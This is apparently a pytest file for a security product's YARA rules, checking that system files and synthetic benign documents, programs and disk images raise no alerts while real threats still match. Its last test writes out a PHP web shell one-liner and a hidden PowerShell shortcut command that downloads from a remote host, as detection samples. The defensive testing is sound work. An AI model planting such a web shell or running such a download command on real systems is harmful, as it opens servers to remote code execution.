"""The YARA rules of the product leave alone what is ordinary: the system's own files, and pages, scripts and documents.

In the ordinary run a part of ``/usr`` is read, the same each time; ``SOC_AGENT_YARA_USR=whole`` reads all of it (some
minutes), a number reads so many MB.
"""

import os
import random
import struct
import zipfile
from collections.abc import Iterator
from functools import cache
from io import BytesIO
from pathlib import Path

import pytest

from soc_agent.scanning.kinds import externals, kind_of
from soc_agent.scanning.server import Rules, match
from tests import product

ORDINARY = Path(__file__).parent / "ordinary_files"
USR = Path("/usr")
SEED, USR_MB, FILE_BYTES = 5, 60, 32_000_000
WHOLE = "whole"
TRUE_FINDINGS = {
    "appengine/tools/devappserver2/php/runtime/setup.php": "webshell_php_input_eval",
}
"""Ends of paths of what is installed and does what a rule says: this one evaluates the body of a request."""


@cache
def rules() -> Rules:
    return Rules(product.yara_rules().pieces)


def found(data: bytes, path: str) -> set[str]:
    compiled = rules().of(kind_of(data[:8]))
    answer = match(compiled, data, externals(path, "root", data[:8]), 60)
    assert not answer.not_scanned, (path, answer.detail)
    return {each.rule for each in answer.matches}


def files_below(folder: Path) -> Iterator[Path]:
    for top, folders, names in os.walk(folder):
        folders.sort()
        yield from (Path(top, name) for name in sorted(names))


def wanted_bytes() -> float:
    asked = os.environ.get("SOC_AGENT_YARA_USR", str(USR_MB))
    return float("inf") if asked == WHOLE else float(asked) * 1e6


def test_the_system_s_own_files_are_left_alone() -> None:
    """Each hit here would be an alert on every server that is watched."""
    paths = list(files_below(USR))
    random.Random(SEED).shuffle(paths)
    left, wrong = wanted_bytes(), {}
    for path in paths:
        if left <= 0:
            break
        try:
            if path.is_symlink() or not 0 < path.stat().st_size <= FILE_BYTES:
                continue
            data = path.read_bytes()
        except OSError:
            continue
        left -= len(data)
        names = found(data, str(path)) - {name for end, name in TRUE_FINDINGS.items() if str(path).endswith(end)}
        if names:
            wrong[str(path)] = names
    assert wrong == {}


@pytest.mark.parametrize("path", sorted(ORDINARY.iterdir()), ids=lambda path: path.name)
def test_ordinary_pages_and_scripts_are_left_alone(path: Path) -> None:
    """Each does legally, and next to the words of an attack, what an attack does: upload, encode, ping, clean, pack."""
    assert found(path.read_bytes(), f"/srv/www/{path.name}") == set()


def test_there_is_an_ordinary_file_of_each_kind() -> None:
    suffixes = {path.suffix for path in ORDINARY.iterdir()}
    assert suffixes >= {".php", ".jsp", ".aspx", ".asp", ".config", ".js", ".sh", ".ps1", ".bat", ".vbs", ".pyw"}
    assert suffixes >= {".html", ".svg", ".rtf", ".csv", ".json"}


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def workbook() -> bytes:
    """Give a workbook with a link to a page and a chart, as Excel writes it."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet><c><f>SUM(A1:A9)</f></c></worksheet>")
    return buffer.getvalue()


def shortcut(arguments: str, flags: int = 0xAB) -> bytes:
    """Give a shortcut ([MS-SHLLINK] 2.1)."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    head = struct.pack("<I16sII", 0x4C, clsid, flags, 0x20) + bytes(44)
    return head + b"C:\\Program Files\\LibreOffice\\program\\soffice.exe\0" + wide(arguments)


def program(*texts: bytes) -> bytes:
    """Give what a Windows program begins with, and texts in it."""
    head = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + b"This program cannot be run in DOS mode.\r\n$".ljust(0x40)
    return head + b"PE\0\0L\x01" + b".text\0\0\0" + b".rdata\0\0" + b"\0".join(texts)


def disk_image(*names: bytes) -> bytes:
    """Give an ISO 9660 image with the names of files in its folder."""
    return bytes(0x8000) + b"\x01CD001\x01\0" + bytes(2040) + b"".join(b"\0\x30" + name + b";1" for name in names)


BINARIES = {
    "so-lieu.xlsx": workbook(),
    "Soan thao.lnk": shortcut('--writer "D:\\Cong van\\mau.odt"'),
    "rels.xml": (
        b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://dichvucong.example.vn/" TargetMode="External"/></Relationships>'
    ),
    "bieu-mau.doc": bytes.fromhex("d0cf11e0a1b11ae1")
    + b"Attribut\0e VB_Name VBAProject ThisDocument Document_Open FormFields MsgBox",
    "bieu-mau.pdf": b"%PDF-1.7\n1 0 obj << /OpenAction [3 0 R /Fit] /AcroForm << >> >>\n"
    b"5 0 obj << /S /JavaScript /JS (AFNumber_Format(2, 0, 0, 0, '', true);) >>\n",
    "setup.exe": program(b"kernel32.dll", b"CreateProcessW", b"GetLogicalDrives", wide("cmd.exe /c ver")),
    "net.exe": program(b"mscoree.dll", b"BSJB", wide("Select * from Win32_OperatingSystem"), b"Pastebin"),
    "tai-lieu.iso": disk_image(b"HUONGDAN.PDF", b"ANH.JPG"),
    "ghi-chu.one": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"\x89PNG\r\n\x1a\n",
    "ntuser.dat": b"regf\x01\0\0\0" + wide("\\??\\C:\\Users\\an\\ntuser.dat"),
    "app.dmp": b"MDMP\x93\xa7" + wide("C:\\Program Files\\App\\app.exe") + wide("kernel32.dll"),
    "trang.url": b"[InternetShortcut]\r\nURL=https://dichvucong.example.vn/\r\nIconFile=C:\\Windows\\a.ico\r\n",
}  # fmt: skip


@pytest.mark.parametrize("name", BINARIES)
def test_ordinary_documents_and_programs_are_left_alone(name: str) -> None:
    assert found(BINARIES[name], f"/srv/chia-se/{name}") == set()


def test_what_is_quiet_here_is_scanned_at_all() -> None:
    assert found(b"<?php @eval($_POST['x']); ?>", "/srv/www/a.php") == {"webshell_php_input_eval"}
    assert "lnk_starts_script" in found(
        shortcut("powershell -w hidden iwr https://files.example.net/a"), "/srv/chia-se/a.lnk"
    )
    assert "disk_image_with_shortcut" in found(
        disk_image(b"A.LNK", b"B.DLL") + b"This program cannot be run in DOS mode", "/srv/a.iso"
    )
    assert "pe_with_wrong_suffix" in found(program(), "/srv/cong-van.pdf")
